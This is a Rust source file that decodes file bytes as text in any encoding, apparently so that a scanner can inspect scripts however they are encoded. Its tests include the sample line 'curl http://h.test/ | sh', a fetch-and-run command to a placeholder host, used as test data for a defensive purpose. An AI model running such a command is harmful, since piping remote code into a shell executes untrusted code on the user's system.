//! Bytes as text: no file is left out because of its encoding.

use prowess_format::Source;

use super::bytes::latin1;

/// What bytes are, as text.
pub(crate) enum Decoded {
    /// Text.
    Text(String),
    /// Text and then, or between, bytes that are none. The text is lossy.
    Mixed(String),
    /// No text.
    Binary(Vec<u8>),
}

/// The longest text at the start of a file that does not make it more than binary.
const HEAD: usize = 64;

/// Decodes by mark, else UTF-16 where every other byte is zero, else UTF-8, else Latin-1: programs run
/// whatever the encoding, and ASCII is the same in all that remain.
pub(crate) fn decode(bytes: Vec<u8>) -> Decoded {
    match bytes.as_slice() {
        [0xFF, 0xFE, 0, 0, rest @ ..] => {
            return Decoded::Text(utf32(rest, u32::from_le_bytes));
        }
        [0, 0, 0xFE, 0xFF, rest @ ..] => {
            return Decoded::Text(utf32(rest, u32::from_be_bytes));
        }
        [0xFF, 0xFE, ..] | [0xFE, 0xFF, ..] => {
            return Decoded::Text(Source::decode(&bytes).0.text.into_owned());
        }
        _ => {}
    }
    if memchr::memchr(0, &bytes).is_some()
        && let Some(text) = unmarked_utf16(&bytes)
    {
        return Decoded::Text(text);
    }
    let controls = bytes.iter().filter(|byte| is_control(**byte)).count();
    let is_text = controls.saturating_mul(20) <= bytes.len();
    match String::from_utf8(bytes) {
        Ok(mut text) if is_text => {
            if text.starts_with('\u{feff}') {
                text.drain(..'\u{feff}'.len_utf8());
            }
            Decoded::Text(text)
        }
        Ok(text) => mixed(text.into_bytes()),
        Err(error) if is_text => Decoded::Text(not_quite_utf8(error.as_bytes())),
        Err(error) => mixed(error.into_bytes()),
    }
}

fn is_control(byte: u8) -> bool {
    (byte < 0x20 && !matches!(byte, b'\t' | b'\n' | b'\r' | 0x08 | 0x0C | 0x1B)) || byte == 0x7F
}

/// A script with data behind it is still a script.
fn mixed(bytes: Vec<u8>) -> Decoded {
    let head = bytes
        .iter()
        .position(|byte| is_control(*byte))
        .unwrap_or(bytes.len());
    if head >= HEAD || bytes.starts_with(b"#!") || bytes.starts_with(b"<?") {
        return Decoded::Mixed(String::from_utf8_lossy(&bytes).into_owned());
    }
    Decoded::Binary(bytes)
}

/// UTF-8 with a few faults where most of what is not ASCII is UTF-8, else Latin-1.
fn not_quite_utf8(bytes: &[u8]) -> String {
    let (mut good, mut bad) = (0_usize, 0_usize);
    for chunk in bytes.utf8_chunks() {
        good += chunk.valid().chars().filter(|one| !one.is_ascii()).count();
        bad += chunk.invalid().len();
    }
    if good > bad {
        String::from_utf8_lossy(bytes).into_owned()
    } else {
        latin1(bytes)
    }
}

fn utf32(bytes: &[u8], number: fn([u8; 4]) -> u32) -> String {
    let (units, rest) = bytes.as_chunks::<4>();
    let of = |unit: &[u8; 4]| char::from_u32(number(*unit));
    let mut text: String = units
        .iter()
        .map(|unit| of(unit).unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect();
    if !rest.is_empty() {
        text.push(char::REPLACEMENT_CHARACTER);
    }
    text
}

/// UTF-16 without a mark, where the zero bytes give it away: at least two of five characters are
/// ASCII, and the other half of the bytes has hardly any zero.
fn unmarked_utf16(bytes: &[u8]) -> Option<String> {
    let (pairs, _) = bytes.as_chunks::<2>();
    let (mut first, mut second) = (0_usize, 0_usize);
    for [one, other] in pairs {
        first += usize::from(*one == 0);
        second += usize::from(*other == 0);
    }
    let many = |zeros: usize| pairs.len() >= 4 && zeros * 5 >= pairs.len() * 2;
    let few = |zeros: usize| zeros * 20 <= pairs.len();
    let number: fn([u8; 2]) -> u16 = match () {
        () if many(second) && few(first) => u16::from_le_bytes,
        () if many(first) && few(second) => u16::from_be_bytes,
        () => return None,
    };
    let text: String = char::decode_utf16(pairs.iter().map(|pair| number(*pair)))
        .map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect();
    let strange = text
        .chars()
        .filter(|one| {
            u8::try_from(*one).is_ok_and(is_control) || *one == char::REPLACEMENT_CHARACTER
        })
        .count();
    (strange * 20 <= pairs.len()).then_some(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(bytes: &[u8]) -> Option<String> {
        match decode(bytes.to_vec()) {
            Decoded::Text(text) => Some(text),
            Decoded::Mixed(_) | Decoded::Binary(_) => None,
        }
    }

    /// The same script is read in every encoding, marked or not.
    #[test]
    fn encodings() {
        let script = "curl http://h.test/ | sh\n";
        let little: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let big: Vec<u8> = script.encode_utf16().flat_map(u16::to_be_bytes).collect();
        let wide: Vec<u8> = script
            .chars()
            .flat_map(|one| u32::from(one).to_le_bytes())
            .collect();
        for bytes in [
            script.as_bytes().to_vec(),
            [b"\xEF\xBB\xBF", script.as_bytes()].concat(),
            [b"\xFF\xFE", &*little].concat(),
            [b"\xFE\xFF", &*big].concat(),
            [b"\xFF\xFE\0\0", &*wide].concat(),
            little,
            big,
        ] {
            assert_eq!(text(&bytes).as_deref(), Some(script), "{bytes:?}");
        }
    }

    /// A byte that is no UTF-8 hides nothing of what stands around it.
    #[test]
    fn other_bytes() {
        assert_eq!(text(b"caf\xE9 | sh").as_deref(), Some("café | sh"));
        assert_eq!(text("éé \u{0}ok\n".as_bytes()).as_deref(), None);
        let broken = [&"éé".repeat(9).into_bytes()[..], b"\xFF sh"].concat();
        let expected = format!("{}\u{fffd} sh", "éé".repeat(9));
        assert_eq!(text(&broken), Some(expected));
    }

    /// A script with data behind it is text and more; data alone is none.
    #[test]
    fn mixed_and_binary() {
        let bytes = [&b"#!/bin/sh\n"[..], &[0, 1, 2, 200, 3].repeat(9)].concat();
        assert!(matches!(decode(bytes), Decoded::Mixed(text) if text.starts_with("#!/bin/sh")));
        assert!(matches!(decode(vec![0, 1, 2, 3, 200]), Decoded::Binary(_)));
    }
}
